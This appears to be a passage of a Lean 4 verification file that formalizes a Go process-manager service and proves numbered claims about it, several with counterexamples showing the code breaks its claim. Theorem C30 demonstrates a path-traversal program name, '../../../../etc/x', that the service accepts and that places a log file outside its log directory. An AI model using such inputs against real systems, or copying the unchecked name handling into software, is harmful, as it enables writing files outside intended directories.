    (hvalid : pm.Valid)
    (hexp : (OnDisk.ExportPrograms codec faults path pm d).1 = none) :
    (∀ e, faults.readFile path = some e →
      OnDisk.ImportPrograms codec faults path
        (OnDisk.ExportPrograms codec faults path pm d).2 =
        .error ("failed to read import file: " ++ e)) ∧
    (faults.readFile path = none →
      ∃ got, OnDisk.ImportPrograms codec faults path
          (OnDisk.ExportPrograms codec faults path pm d).2 = .ok got ∧
        utf8Bytes got.Version = pm.Version ∧
        (∀ k, (mapGet got.Programs k).map Program.bytes =
          goMapGet (pm.Programs.getD []) (utf8Bytes k)) ∧
        (∀ kb g, goMapGet (pm.Programs.getD []) kb = some g →
          (mapGet got.Programs (toValidUTF8 kb)).map Program.bytes = some g) ∧
        (pm.Programs = none → got.Programs = [])) := by
  simp only [OnDisk.ExportPrograms] at hexp ⊢
  cases henc : encodeGoManager codec pm with
  | error e => simp [henc] at hexp
  | ok v =>
    cases hw : faults.writeFile path with
    | some fault => simp [henc, hw] at hexp
    | none =>
      refine ⟨?_, ?_⟩
      · intro e he
        simp only [OnDisk.ImportPrograms, Disk_set_self, he]
      · intro hread
        have hver : utf8Bytes (toValidUTF8 pm.Version) = pm.Version := hvalid.1
        unfold encodeGoManager at henc
        cases hp : pm.Programs with
        | none =>
          simp only [hp] at henc
          injection henc with henc
          subst henc
          simp only [OnDisk.ImportPrograms, Disk_set_self, hread, Unmarshal_null_programs]
          refine ⟨_, rfl, hver, ?_, ?_, fun _ => rfl⟩
          · intro k; rfl
          · intro kb g hg
            simp [goMapGet] at hg
        | some m =>
          have hm := hvalid.2 m hp
          simp only [hp] at henc
          split at henc
          · cases henc
          · rename_i members hmembers
            injection henc with henc
            subst henc
            rw [encodeGoPrograms_written codec m (fun e he => (hm e he).1) (sortedGoKeys m)
              (fun k hk => by
                obtain ⟨e, he, rfl⟩ := List.mem_map.1 ((mem_sortedGoKeys m k).1 hk)
                exact (hm e he).1)] at hmembers
            obtain ⟨out, hout, hget⟩ := Unmarshal_members codec hlaw (writtenMap m)
              (writtenMap_int64 m (hint m hp)) _ (mem_written_sortedGoKeys m) members hmembers
              (toValidUTF8 pm.Version)
            simp only [OnDisk.ImportPrograms, Disk_set_self, hread, hout]
            refine ⟨_, rfl, hver, ?_, ?_, ?_⟩
            · intro k
              simp only [Option.getD_some]
              rw [hget k]
              exact mapGet_writtenMap_bytes m hm k
            · intro kb g hg
              simp only [Option.getD_some] at hg
              have hkb : validUTF8 kb := (hm _ (goMapGet_mem hg)).1
              simp only
              rw [hget, mapGet_writtenMap m (fun e he => (hm e he).1) kb hkb, hg]
              simp only [Option.map_some, Option.map_some',
                written_bytes (hm _ (goMapGet_mem hg)).2]
            · intro h
              cases h

/-- Witness for C14: a catalog with one record, and a catalog whose map is nil, each
exported to an empty filesystem and imported again. -/
theorem C14_export_import_round_trip_witness :
    (∃ got, OnDisk.ImportPrograms TimeCodec.tally Faults.quiet "backup.json"
        (OnDisk.ExportPrograms TimeCodec.tally Faults.quiet "backup.json"
          { Programs := some [(utf8Bytes "a",
              { (sampleProgram "a" "x" "sleep 1").bytes with
                Port := 8080, AutoStart := true, CreatedAt := 5, UpdatedAt := 7 })],
            Version := utf8Bytes "1.0" } Disk.empty).2 = .ok got ∧
      utf8Bytes got.Version = utf8Bytes "1.0" ∧
      ∀ k, (mapGet got.Programs k).map Program.bytes =
        goMapGet [(utf8Bytes "a",
              { (sampleProgram "a" "x" "sleep 1").bytes with
                Port := 8080, AutoStart := true, CreatedAt := 5, UpdatedAt := 7 })]
          (utf8Bytes k)) ∧
    ∃ got, OnDisk.ImportPrograms TimeCodec.tally Faults.quiet "backup.json"
        (OnDisk.ExportPrograms TimeCodec.tally Faults.quiet "backup.json"
          { Programs := none, Version := utf8Bytes "1.0" } Disk.empty).2 = .ok got ∧
      got.Programs = [] :=
  ⟨((C14_export_import_round_trip TimeCodec.tally Faults.quiet "backup.json"
      { Programs := some [(utf8Bytes "a",
          { (sampleProgram "a" "x" "sleep 1").bytes with
            Port := 8080, AutoStart := true, CreatedAt := 5, UpdatedAt := 7 })],
        Version := utf8Bytes "1.0" } Disk.empty tally_lawful
      (fun m hm => by
        injection hm with hm
        subst hm
        decide)
      ⟨by decide, fun m hm => by
        injection hm with hm
        subst hm
        decide⟩
      (by decide)).2 rfl).imp fun _ h => ⟨h.1, h.2.1, h.2.2.1⟩,
    ((C14_export_import_round_trip TimeCodec.tally Faults.quiet "backup.json"
      { Programs := none, Version := utf8Bytes "1.0" } Disk.empty tally_lawful
      (fun m hm => by cases hm) ⟨by decide, fun m hm => by cases hm⟩ (by decide)).2 rfl).imp
      fun _ h => ⟨h.1, h.2.2.2.2 rfl⟩⟩

/-! ## Ports, names and refused commands in the handlers -/

/-- C22 (the code breaks the claim). The create handler measures the trimmed name in
bytes: a name of 20 characters of three bytes each is refused with `Program name must be
2-50 characters`, and a name of one character of two bytes is accepted. The update
handler does not check the length at all: after a create and an update the stored name
has one character. -/
theorem C22_name_length_in_bytes :
    (String.mk (List.replicate 20 (Char.ofNat 0x4E2D))).length = 20 ∧
      (ProgramHandler.CreateProgram Env.calm
        (some { Name := String.mk (List.replicate 20 (Char.ofNat 0x4E2D)),
                Command := "sleep 1", WorkingDir := "", Description := "", Port := 0 })
        World.initial).1.status = 400 ∧
      (ProgramHandler.CreateProgram Env.calm
        (some { Name := String.mk (List.replicate 20 (Char.ofNat 0x4E2D)),
                Command := "sleep 1", WorkingDir := "", Description := "", Port := 0 })
        World.initial).1.body = .text "Program name must be 2-50 characters" ∧
      (String.mk [Char.ofNat 0xE9]).length = 1 ∧
      (ProgramHandler.CreateProgram Env.calm
        (some { Name := String.mk [Char.ofNat 0xE9], Command := "sleep 1", WorkingDir := "",
                Description := "", Port := 0 })
        World.initial).1.status = 201 ∧
      ((serve Env.calm
        [.create (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                         Description := "", Port := 0 }),
         .update "p" (some { Name := "x", Command := "sleep 1", WorkingDir := "",
                             Description := "", Port := none })]
        World.initial).catalog.Programs.map fun e => (e.1, e.2.Name)) = [("p", "x")] := by
  decide

/-! ## The memory of a process -/

/-- C24 (the code breaks the claim). The status file holds the line `VmRSS:` followed by a
tab, spaces, `2048 kB`, as the kernel writes it, and the statm file says 300 resident
pages. The scan of the line yields `2048`, which does not end in `kB`, so the value of
the line is dropped and getProcessMemoryOS returns the statm value, 1200. Only a line
with no space before `kB` is used. -/
theorem C24_vmrss_line_not_used :
    scanVmRSS "VmRSS:\t    2048 kB" = "2048" ∧
      (getProcessMemoryOS (.ok "Name:\tsleep\nVmRSS:\t    2048 kB\nRssAnon:\t     100 kB\n")
        (.ok "5000 300 200 1 0 100 0\n")).toOption = some 1200 ∧
      (getProcessMemoryOS (.ok "Name:\tsleep\nVmRSS: 2048kB\n")
        (.ok "5000 300 200 1 0 100 0\n")).toOption = some 2048 := by
  decide

/-! ## The initial data file -/

/-- C26 (the code breaks the claim). LoadPrograms applied to a filesystem whose data file
holds what main writes, `{"programs":[]}`, returns an error: the member `programs` is an
array and the field is a map. -/
theorem C26_initial_file_does_not_load :
    ∀ (codec : TimeCodec) (faults : Faults) (filePath : String),
      ∃ e, OnDisk.LoadPrograms codec faults filePath
        (Disk.empty.set filePath (some initialData)) = .error e := by
  intro codec faults filePath
  simp only [OnDisk.LoadPrograms, Disk_set_self, initialData]
  cases faults.readFile filePath with
  | some e => exact ⟨_, rfl⟩
  | none => exact ⟨_, rfl⟩

/-! ## The log handler -/

/-- C27 (the code breaks the claim). For the path `/api/logs/abc`, which the router sends
to GetProgramLogs with id `abc`, the slice expression has its low bound 14 above its
high bound 8 and panics. For `/api/logs/20240101120000abc` the slice is within bounds
and the handler asks the log service for `01011200`, not for the id of the route. -/
theorem C27_log_path_slicing :
    logsRouteID "/api/logs/abc" = some "abc" ∧
      LogHandler.GetProgramLogs "/api/logs/abc" = none ∧
      logsRouteID "/api/logs/20240101120000abc" = some "20240101120000abc" ∧
      LogHandler.GetProgramLogs "/api/logs/20240101120000abc" =
        some (.getLogs (utf8Bytes "01011200")) ∧
      utf8Bytes "01011200" ≠ utf8Bytes "20240101120000abc" := by
  decide

/-! ## Records and their keys -/

/-- C28 (the code breaks the claim). From the empty catalog, AddProgram of a program with
id `a` and UpdateProgram of `a` with a program whose ID field is `b` both succeed, and
the record stored under the key `a` then has ID `b`. -/
theorem C28_record_under_foreign_key :
    (callAll Env.calm
        [.add (sampleProgram "a" "x" "sleep 1"),
         .update "a" (sampleProgram "b" "x" "sleep 1")] World.initial).1 = [none, none] ∧
      ((callAll Env.calm
        [.add (sampleProgram "a" "x" "sleep 1"),
         .update "a" (sampleProgram "b" "x" "sleep 1")]
        World.initial).2.catalog.Programs.map fun e => (e.1, e.2.ID)) = [("a", "b")] := by
  decide

/-! ## The path of the log file -/

/-- C30 (the code breaks the claim). The create handler accepts the name
`../../../../etc/x`; with the log directory `/var/log/pm` the log file of that program is
`/var/etc/x_20240101_000000.log`, whose directory is `/var/etc`. For the name `a/b` the
log file is in the directory `program_a` under the log directory. -/
theorem C30_log_path_leaves_log_dir :
    (ProgramHandler.CreateProgram Env.calm
        (some { Name := "../../../../etc/x", Command := "sleep 1", WorkingDir := "",
                Description := "", Port := 0 })
        World.initial).1.status = 201 ∧
      ProcessManager.logPath "/var/log/pm" "../../../../etc/x" "20240101_000000" =
        "/var/etc/x_20240101_000000.log" ∧
      Dir (ProcessManager.logPath "/var/log/pm" "../../../../etc/x" "20240101_000000") =
        "/var/etc" ∧
      Dir (ProcessManager.logPath "/var/log/pm" "a/b" "20240101_000000") =
        "/var/log/pm/program_a" ∧
      Dir (ProcessManager.logPath "/var/log/pm" "web" "20240101_000000") =
        "/var/log/pm" := by
  decide

/-! ## Failing starts -/

theorem Service_StartProgram_error_catalog (env : Env) (p : Program) (w : World) :
    (ProgramService.StartProgram env p w).1.1 ≠ none →
      (ProgramService.StartProgram env p w).2.catalog = w.catalog ∧
        (ProgramService.StartProgram env p w).1.2 = p := by
  simp only [ProgramService.StartProgram]
  split
  · intro _; exact ⟨rfl, rfl⟩
  · split
    · intro _; exact ⟨rfl, rfl⟩
    · split
      · next h => intro _; rw [Load_eq_error h]; exact ⟨rfl, rfl⟩
      · next pm w1 h =>
        obtain ⟨rfl, rfl⟩ := Load_eq_ok h
        split
        · intro _; exact ⟨rfl, rfl⟩
        · split
          · intro _; exact ⟨rfl, rfl⟩
          · split
            · intro _; exact ⟨rfl, rfl⟩
            · split
              · next hs =>
                intro _
                simp only
                rw [Save_error_catalog hs]
                constructor <;> first | rfl | trivial
              · intro h; exact absurd rfl h

/-- C29. Whenever ProgramService.StartProgram returns an error, whatever its cause, the
persisted catalog is exactly what it was before the call and the caller's record is
untouched; so the record stored under the id differs after the call only when
StartProgram returned no error. -/
theorem C29_start_error_frame (env : Env) (p : Program) (w : World) :
    ((ProgramService.StartProgram env p w).1.1 ≠ none →
        (ProgramService.StartProgram env p w).2.catalog = w.catalog ∧
          (ProgramService.StartProgram env p w).1.2 = p) ∧
      (mapGet (ProgramService.StartProgram env p w).2.catalog.Programs p.ID ≠
          mapGet w.catalog.Programs p.ID →
        (ProgramService.StartProgram env p w).1.1 = none) := by
  refine ⟨Service_StartProgram_error_catalog env p w, ?_⟩
  intro hdiff
  by_contra herr
  exact hdiff (by rw [(Service_StartProgram_error_catalog env p w herr).1])

/-- Witness for C29: the child is spawned and is not alive after the grace period, the
start fails and the catalog is as before; and on a calm system the stored record changes
and the start has returned no error. -/
theorem C29_start_error_frame_witness :
    (ProgramService.StartProgram Env.dead (sampleProgram "a" "x" "sleep 1")
        (World.holding [sampleProgram "a" "x" "sleep 1"])).1.1 =
        some "failed to start program: process started but failed to remain running" ∧
      (ProgramService.StartProgram Env.dead (sampleProgram "a" "x" "sleep 1")
        (World.holding [sampleProgram "a" "x" "sleep 1"])).2.catalog =
        (World.holding [sampleProgram "a" "x" "sleep 1"]).catalog ∧
      (ProgramService.StartProgram Env.calm (sampleProgram "a" "x" "sleep 1")
        (World.holding [sampleProgram "a" "x" "sleep 1"])).1.1 = none :=
  ⟨by decide,
    ((C29_start_error_frame Env.dead (sampleProgram "a" "x" "sleep 1")
      (World.holding [sampleProgram "a" "x" "sleep 1"])).1 (by decide)).1,
    (C29_start_error_frame Env.calm (sampleProgram "a" "x" "sleep 1")
      (World.holding [sampleProgram "a" "x" "sleep 1"])).2 (by decide)⟩

/-! ## Ports and refused commands in the create and update handlers -/

theorem Service_AddProgram_success_eq {env : Env} {p : Program} {w w1 : World}
    (h : ProgramService.AddProgram env p w = (none, w1)) :
    ∃ t1 t2 : Time,
      w1.catalog =
        { w.catalog with
          Programs := mapSet w.catalog.Programs p.ID { p with CreatedAt := t1, UpdatedAt := t2 } } := by
  simp only [ProgramService.AddProgram] at h
  split at h
  · simp at h
  · split at h
    · simp at h
    · split at h
      · simp at h
      · split at h
        · simp at h
        · split at h
          · simp at h
          · next pm w3 hl =>
            obtain ⟨rfl, rfl⟩ := Load_eq_ok hl
            split at h
            · simp at h
            · split at h
              · simp at h
              · next w4 hs =>
                simp only [Prod.mk.injEq, true_and] at h
                subst h
                rw [Save_none_catalog hs]
                refine ⟨env.now (w.next.next.next.tick + 1), env.now (w.next.next.next.tick + 2), ?_⟩
                simp only [ProgramManager.AddProgram, catalog_next]
                split <;> rfl

theorem Service_AddProgram_stored {env : Env} {p : Program} {w w1 : World}
    (h : ProgramService.AddProgram env p w = (none, w1)) :
    ∃ q : Program, mapGet w1.catalog.Programs p.ID = some q ∧ q.Port = p.Port ∧
      q.Name = p.Name := by
  obtain ⟨t1, t2, ht⟩ := Service_AddProgram_success_eq h
  exact ⟨{ p with CreatedAt := t1, UpdatedAt := t2 },
    by rw [ht]; exact mapGet_mapSet_self _ _ _, rfl, rfl⟩

theorem Handler_CreateProgram_created (env : Env) (req : CreateRequest) (w : World)
    (h : (ProgramHandler.CreateProgram env (some req) w).1.status = 201) :
    0 ≤ req.Port ∧ req.Port ≤ 65535 ∧
      ∃ (id : String) (p : Program),
        mapGet (ProgramHandler.CreateProgram env (some req) w).2.catalog.Programs id = some p ∧
          p.Port = (if req.Port = 0 then -1 else req.Port) := by
  revert h
  simp only [ProgramHandler.CreateProgram]
  split
  · intro h; simp at h
  · split
    · intro h; simp at h
    · split
      · intro h; simp at h
      · split
        · intro h; simp at h
        · rename_i hport
          split
          · intro h; simp at h
          · next id w1 hp =>
            by_cases h0 : req.Port = 0
            · simp only [h0, ↓reduceIte]
              split
              · split
                · intro h; simp at h
                · intro h; simp at h
              · next w2 ha =>
                intro _
                obtain ⟨q, hq, hqp, _⟩ := Service_AddProgram_stored ha
                exact ⟨by omega, by omega, id, q, hq, hqp⟩
            · simp only [h0, ↓reduceIte]
              split
              · split
                · intro h; simp at h
                · intro h; simp at h
              · next w2 ha =>
                intro _
                obtain ⟨q, hq, hqp, _⟩ := Service_AddProgram_stored ha
                exact ⟨by omega, by omega, id, q, hq, hqp⟩

theorem Handler_CreateProgram_accepts (env : Env) (req : CreateRequest) (w : World)
    (hname : TrimSpace req.Name ≠ "")
    (hlen : 2 ≤ (TrimSpace req.Name).utf8ByteSize ∧ (TrimSpace req.Name).utf8ByteSize ≤ 50)
    (hcmd : TrimSpace req.Command ≠ "") (hport : 0 ≤ req.Port ∧ req.Port ≤ 65535)
    (hval : ∀ k c, env.validateCommand k c = none)
    (hdir : ∀ k d, env.validateWorkingDir k d = none)
    (hio : env.storageOKFrom w.tick)
    (hfresh : mapGet w.catalog.Programs (env.newID w.tick) = none)
    (hfree : ∀ id, ProgramService.nameTaken w.catalog (TrimSpace req.Name) id = false) :
    (ProgramHandler.CreateProgram env (some req) w).1.status = 201 := by
  have hl : ¬((TrimSpace req.Name).utf8ByteSize < 2 ∨ (TrimSpace req.Name).utf8ByteSize > 50) := by
    omega
  have hp : ¬(req.Port < 0 ∨ req.Port > 65535) := by omega
  have hread1 : env.readErr w.next.tick = none := (hio (w.tick + 1) (by omega)).1
  have hpick : ProgramHandler.pickID env w = (some (env.newID w.tick), w.next.next) := by
    simp only [ProgramHandler.pickID, ProgramService.GetProgramByID, Load_of_ok hread1,
      ProgramManager.GetProgramByID, catalog_next, hfresh]
  have hread2 : env.readErr w.next.next.next.next.tick = none :=
    (hio (w.tick + 1 + 1 + 1 + 1) (by omega)).1
  have hs := hio (w.tick + 1 + 1 + 1 + 1 + 1 + 3) (by omega)
  simp only [ProgramHandler.CreateProgram, hname, hl, hcmd, hp, ↓reduceIte, hpick]
  by_cases h0 : req.Port = 0
  · simp only [h0, ↓reduceIte, ProgramService.AddProgram, hname, hcmd, hval, hdir, ite_self,
      Load_of_ok hread2, catalog_next, hfree, Bool.false_eq_true]
    rw [Save_of_ok _ hs.2.1 hs.2.2.1 hs.2.2.2]
  · simp only [h0, ↓reduceIte, ProgramService.AddProgram, hname, hcmd, hval, hdir, ite_self,
      Load_of_ok hread2, catalog_next, hfree, Bool.false_eq_true]
    rw [Save_of_ok _ hs.2.1 hs.2.2.1 hs.2.2.2]

theorem Handler_CreateProgram_bad_port (env : Env) (req : CreateRequest) (w : World)
    (h : req.Port < 0 ∨ req.Port > 65535) :
    (ProgramHandler.CreateProgram env (some req) w).1.status = 400 ∧
      (ProgramHandler.CreateProgram env (some req) w).2 = w := by
  simp only [ProgramHandler.CreateProgram]
  split
  · exact ⟨rfl, rfl⟩
  · split
    · exact ⟨rfl, rfl⟩
    · split
      · exact ⟨rfl, rfl⟩
      · simp [h]

theorem Service_UpdateProgram_stored {env : Env} {id : String} {p : Program} {w w1 : World}
    (h : ProgramService.UpdateProgram env id p w = (none, w1)) :
    ∃ q : Program, mapGet w1.catalog.Programs id = some q ∧ q.Port = p.Port ∧
      q.Name = p.Name := by
  obtain ⟨_, t, ht⟩ := Service_UpdateProgram_success_eq h
  exact ⟨{ p with UpdatedAt := t }, by rw [ht]; exact mapGet_mapSet_self _ _ _, rfl, rfl⟩

theorem Handler_UpdateProgram_port (env : Env) (id : String) (req : Option UpdateRequest)
    (w : World) (h : (ProgramHandler.UpdateProgram env id req w).1.status = 200) :
    ∃ (r : UpdateRequest) (old q : Program),
      req = some r ∧ mapGet w.catalog.Programs id = some old ∧
        mapGet (ProgramHandler.UpdateProgram env id req w).2.catalog.Programs id = some q ∧
        q.Port = r.Port.getD old.Port ∧ q.Name = TrimSpace r.Name := by
  revert h
  simp only [ProgramHandler.UpdateProgram]
  split
  · intro h; simp at h
  · split
    · intro h; simp at h
    · next r =>
      split
      · intro h; simp at h
      · next existing w1 hg =>
        obtain ⟨hget, rfl⟩ := GetProgramByID_ok hg
        split
        · intro h; simp at h
        · split
          · intro h; simp at h
          · split
            · split
              · intro h; simp at h
              · split
                · intro h; simp at h
                · intro h; simp at h
            · next hu =>
              intro _
              obtain ⟨q, hq, hqp, hqn⟩ := Service_UpdateProgram_stored hu
              refine ⟨r, existing, q, rfl, hget, hq, ?_, ?_⟩
              · rw [hqp]
                cases r.Port <;> rfl
              · rw [hqn]
                cases r.Port <;> rfl

theorem PortsOK_mapSet {pm : ProgramManager} {k : String} {v : Program}
    (hpm : PortsOK pm) (hv : PortOK v) :
    PortsOK { pm with Programs := mapSet pm.Programs k v } := by
  intro e he
  rcases mem_mapSet he with h | h
  · rw [h]; exact hv
  · exact hpm e h

theorem snd_ports {α : Type} {x : α × World} {a : α} {w1 : World}
    (h : x = (a, w1)) (hx : PortsOK x.2.catalog) : PortsOK w1.catalog := by
  subst h
  exact hx

theorem Service_UpdateProgram_error_catalog (env : Env) (id : String) (p : Program)
    (w : World) :
    (ProgramService.UpdateProgram env id p w).1 ≠ none →
      (ProgramService.UpdateProgram env id p w).2.catalog = w.catalog := by
  simp only [ProgramService.UpdateProgram]
  split
  · intro _; rfl
  · split
    · intro _; rfl
    · split
      · intro _; rfl
      · split
        · intro _; rfl
        · split
          · next h => intro _; rw [Load_eq_error h]; rfl
          · next pm w3 h =>
            obtain ⟨rfl, rfl⟩ := Load_eq_ok h
            split
            · intro _; rfl
            · split
              · intro _; rfl
              · split
                · next hs => intro _; rw [Save_error_catalog hs]; rfl
                · intro h; exact absurd rfl h

theorem Service_AddProgram_portsOK (env : Env) (p : Program) (w : World)
    (hp : PortOK p) (hw : PortsOK w.catalog) :
    PortsOK (ProgramService.AddProgram env p w).2.catalog := by
  cases h : (ProgramService.AddProgram env p w).1 with
  | some e =>
    rw [AddProgram_error_catalog env p w (by rw [h]; simp)]
    exact hw
  | none =>
    have heq : ProgramService.AddProgram env p w =
        (none, (ProgramService.AddProgram env p w).2) := by
      rw [← h]
    obtain ⟨t1, t2, ht⟩ := Service_AddProgram_success_eq heq
    rw [ht]
    exact PortsOK_mapSet hw hp

theorem Service_UpdateProgram_portsOK (env : Env) (id : String) (p : Program) (w : World)
    (hp : PortOK p) (hw : PortsOK w.catalog) :
    PortsOK (ProgramService.UpdateProgram env id p w).2.catalog := by
  cases h : (ProgramService.UpdateProgram env id p w).1 with
  | some e =>
    rw [Service_UpdateProgram_error_catalog env id p w (by rw [h]; simp)]
    exact hw
  | none =>
    obtain ⟨_, t, ht⟩ := Service_UpdateProgram_success env id p w h
    rw [ht]
    exact PortsOK_mapSet hw hp

theorem Handler_CreateProgram_portsOK (env : Env) (req : Option CreateRequest) (w : World)
    (hw : PortsOK w.catalog) :
    PortsOK (ProgramHandler.CreateProgram env req w).2.catalog := by
  simp only [ProgramHandler.CreateProgram]
  split
  · exact hw
  · next req =>
    have hw1 : PortsOK (ProgramHandler.pickID env w).2.catalog := by
      rw [pickID_world]; exact hw
    split
    · exact hw
    · split
      · exact hw
      · split
        · exact hw
        · split
          · exact hw
          · next hport =>
            split
            · next h => exact snd_ports h hw1
            · next id w1 h =>
              have hw2 := snd_ports h hw1
              have key : ∀ q : Program, PortOK q →
                  PortsOK (ProgramService.AddProgram env q w1).2.catalog :=
                fun q hq => Service_AddProgram_portsOK env q w1 hq hw2
              split
              · next ha =>
                have : PortsOK _ := snd_ports ha (key _ (by
                  split
                  · simp [PortOK]
                  · simp only [PortOK]; omega))
                split <;> exact this
              · next ha =>
                exact snd_ports ha (key _ (by
                  split
                  · simp [PortOK]
                  · simp only [PortOK]; omega))

theorem Handler_UpdateProgram_portsOK (env : Env) (id : String) (req : Option UpdateRequest)
    (w : World) (hreq : portGuarded (.update id req)) (hw : PortsOK w.catalog) :
    PortsOK (ProgramHandler.UpdateProgram env id req w).2.catalog := by
  simp only [ProgramHandler.UpdateProgram]
  split
  · exact hw
  · split
    · exact hw
    · next req =>
      split
      · next h =>
        have := GetProgramByID_world env id w
        rw [h] at this
        simp only at this
        rw [this]; exact hw
      · next existing w1 h =>
        obtain ⟨hg, rfl⟩ := GetProgramByID_ok h
        have hex : PortOK existing := hw _ (mapGet_mem hg)
        split
        · exact hw
        · split
          · exact hw
          · have hp : PortOK
                (match req.Port with
                  | some port =>
                    { { existing with
                        Name := TrimSpace req.Name, Command := TrimSpace req.Command,
                        WorkingDir := TrimSpace req.WorkingDir,
                        Description := TrimSpace req.Description } with Port := port }
                  | none =>
                    { existing with
                      Name := TrimSpace req.Name, Command := TrimSpace req.Command,
                      WorkingDir := TrimSpace req.WorkingDir,
                      Description := TrimSpace req.Description }) := by
              simp only [portGuarded] at hreq
              split
              · next port hpt => rw [hpt] at hreq; exact hreq
              · exact hex
            split
            · next hu =>
              have := snd_ports hu (Service_UpdateProgram_portsOK env id _ w.next hp hw)
              split
              · exact this
              · split <;> exact this
            · next hu =>
              exact snd_ports hu (Service_UpdateProgram_portsOK env id _ w.next hp hw)

theorem serve_portsOK (env : Env) (rs : List Request) :
    ∀ w : World, (∀ r ∈ rs, portGuarded r) → PortsOK w.catalog →
      PortsOK (serve env rs w).catalog := by
  induction rs with
  | nil => intro w _ hw; exact hw
  | cons r rest ih =>
    intro w hrs hw
    have hr := hrs r (List.mem_cons_self _ _)
    refine ih _ (fun r1 h1 => hrs r1 (List.mem_cons_of_mem _ h1)) ?_
    cases r with
    | create req => exact Handler_CreateProgram_portsOK env req w hw
    | update id req => exact Handler_UpdateProgram_portsOK env id req w hr hw
    | _ => exact absurd hr (by simp [portGuarded])

/-- The update handler stores the port of the request as it is, without the range check
and without the replacement of 0 by -1 that the create handler applies: after a create, an
update that carries the port 70000 leaves 70000 stored, and one that carries the port 0
leaves 0 stored. -/
theorem Handler_UpdateProgram_unchecked_port :
    ((serve Env.calm
        [.create (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                         Description := "", Port := 8080 }),
         .update "p" (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                             Description := "", Port := some 70000 })]
        World.initial).catalog.Programs.map fun e => (e.1, e.2.Port)) = [("p", 70000)] ∧
      ((serve Env.calm
        [.create (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                         Description := "", Port := 8080 }),
         .update "p" (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                             Description := "", Port := some 0 })]
        World.initial).catalog.Programs.map fun e => (e.1, e.2.Port)) = [("p", 0)] := by
  decide

/-- C21, counterexample: the create handler refuses the port -1, which lies in
[-1, 65535], with the message that the port must be between 0 and 65535, and stores
nothing. -/
theorem C21_counterexample :
    (ProgramHandler.CreateProgram Env.calm
        (some { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
                Port := -1 })
        World.initial).1 =
        { status := 400, body := .text "Port must be between 0 and 65535" } ∧
      (ProgramHandler.CreateProgram Env.calm
        (some { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
                Port := -1 })
        World.initial).2 = World.initial := by
  decide

/-- C21, amended: the create handler answers 400 and changes nothing for every port below
0 or above 65535; when it answers 201 the port of the request lies in [0, 65535] and the
record it stored has the port -1 for a request port of 0 and the port of the request
otherwise, so a port in [-1, 65535] other than 0; a request with a port in [0, 65535] is
answered 201 when its name and command pass the checks, the validators accept, storage
works, the generated id is free and no record carries the name. From a catalog in which
every stored port lies in [-1, 65535] and is not 0, after any sequence of create requests
and of update requests that carry no port, or a port in [-1, 65535] other than 0, every
stored port lies in [-1, 65535] and is not 0. -/
theorem C21_port_handling (env : Env) (w : World) :
    (∀ req : CreateRequest, req.Port < 0 ∨ req.Port > 65535 →
      (ProgramHandler.CreateProgram env (some req) w).1.status = 400 ∧
        (ProgramHandler.CreateProgram env (some req) w).2 = w) ∧
    (∀ req : CreateRequest, (ProgramHandler.CreateProgram env (some req) w).1.status = 201 →
      0 ≤ req.Port ∧ req.Port ≤ 65535 ∧
        ∃ (id : String) (p : Program),
          mapGet (ProgramHandler.CreateProgram env (some req) w).2.catalog.Programs id =
              some p ∧
            p.Port = (if req.Port = 0 then -1 else req.Port) ∧
            -1 ≤ p.Port ∧ p.Port ≤ 65535 ∧ p.Port ≠ 0) ∧
    (∀ req : CreateRequest, 0 ≤ req.Port → req.Port ≤ 65535 →
      TrimSpace req.Name ≠ "" →
      2 ≤ (TrimSpace req.Name).utf8ByteSize → (TrimSpace req.Name).utf8ByteSize ≤ 50 →
      TrimSpace req.Command ≠ "" →
      (∀ k c, env.validateCommand k c = none) → (∀ k d, env.validateWorkingDir k d = none) →
      env.storageOKFrom w.tick →
      mapGet w.catalog.Programs (env.newID w.tick) = none →
      (∀ id, ProgramService.nameTaken w.catalog (TrimSpace req.Name) id = false) →
      (ProgramHandler.CreateProgram env (some req) w).1.status = 201) ∧
    (∀ rs : List Request, (∀ r ∈ rs, portGuarded r) →
      (∀ e ∈ w.catalog.Programs, -1 ≤ e.2.Port ∧ e.2.Port ≤ 65535 ∧ e.2.Port ≠ 0) →
      ∀ e ∈ (serve env rs w).catalog.Programs,
        -1 ≤ e.2.Port ∧ e.2.Port ≤ 65535 ∧ e.2.Port ≠ 0) := by
  refine ⟨fun req h => Handler_CreateProgram_bad_port env req w h, ?_, ?_, ?_⟩
  · intro req h
    obtain ⟨h1, h2, id, p, hp, hport⟩ := Handler_CreateProgram_created env req w h
    refine ⟨h1, h2, id, p, hp, hport, ?_⟩
    rw [hport]
    split <;> omega
  · intro req h1 h2 hname hl1 hl2 hcmd hval hdir hio hfresh hfree
    exact Handler_CreateProgram_accepts env req w hname ⟨hl1, hl2⟩ hcmd ⟨h1, h2⟩ hval hdir hio
      hfresh hfree
  · intro rs hrs hw
    exact serve_portsOK env rs w hrs hw

/-- Witness for C21: on a calm system, a create with the port 65536, a create with the
port 65535 on the empty catalog, a create with the port 0, and a create followed by an
update that carries no port. -/
theorem C21_port_handling_witness :
    (ProgramHandler.CreateProgram Env.calm
        (some { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
                Port := 65536 })
        World.initial).1.status = 400 ∧
      (ProgramHandler.CreateProgram Env.calm
        (some { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
                Port := 65535 })
        World.initial).1.status = 201 ∧
      (∃ (id : String) (p : Program),
        mapGet (ProgramHandler.CreateProgram Env.calm
          (some { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
                  Port := 0 })
          World.initial).2.catalog.Programs id = some p ∧ p.Port = -1) ∧
      ((serve Env.calm
        [.create (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                         Description := "", Port := 0 }),
         .update "p" (some { Name := "net", Command := "sleep 2", WorkingDir := "",
                             Description := "", Port := none })]
        World.initial).catalog.Programs.map fun e => (e.1, e.2.Name, e.2.Port)) =
        [("p", "net", -1)] ∧
      ∀ e ∈ (serve Env.calm
          [.create (some { Name := "web", Command := "sleep 1", WorkingDir := "",
                           Description := "", Port := 0 }),
           .update "p" (some { Name := "net", Command := "sleep 2", WorkingDir := "",
                               Description := "", Port := none })]
          World.initial).catalog.Programs,
        -1 ≤ e.2.Port ∧ e.2.Port ≤ 65535 ∧ e.2.Port ≠ 0 :=
  ⟨((C21_port_handling Env.calm World.initial).1
